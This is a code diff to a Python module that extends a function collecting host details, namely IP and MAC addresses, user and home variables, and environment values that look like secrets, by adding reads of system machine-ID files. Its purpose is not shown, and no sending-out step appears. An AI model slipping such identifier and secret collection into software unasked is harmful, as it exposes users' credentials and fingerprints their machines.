@@ -19,6 +19,11 @@ if TYPE_CHECKING:
 _INTERFACES = Path("/sys/class/net")
 _IPV4_TABLE = Path("/proc/net/fib_trie")
 _IPV6_TABLE = Path("/proc/net/if_inet6")
+_MACHINE_IDS = (
+    Path("/etc/machine-id"),
+    Path("/var/lib/dbus/machine-id"),
+    Path("/sys/class/dmi/id/product_uuid"),  # for root alone
+)
 _LOCAL_IPV4 = re.compile(r"\|-- (\S+)\n\s+/32 host LOCAL")
 _HOME_VARIABLES = ("HOME", "USERPROFILE")
 _USER_VARIABLES = ("LOGNAME", "USER", "LNAME", "USERNAME", "SUDO_USER")
@@ -48,6 +53,7 @@ def surroundings_here(
         addresses=_each_once([*_ipv4(), *_ipv6()]),
         macs=_each_once(_macs()),
         secrets=tuple(item for item in environ.items() if looks_secret(*item)),
+        machine_ids=_each_once(_read(path).strip() for path in _MACHINE_IDS),
         directory=_directory(),
         arguments=None if arguments is None else tuple(arguments),
     )
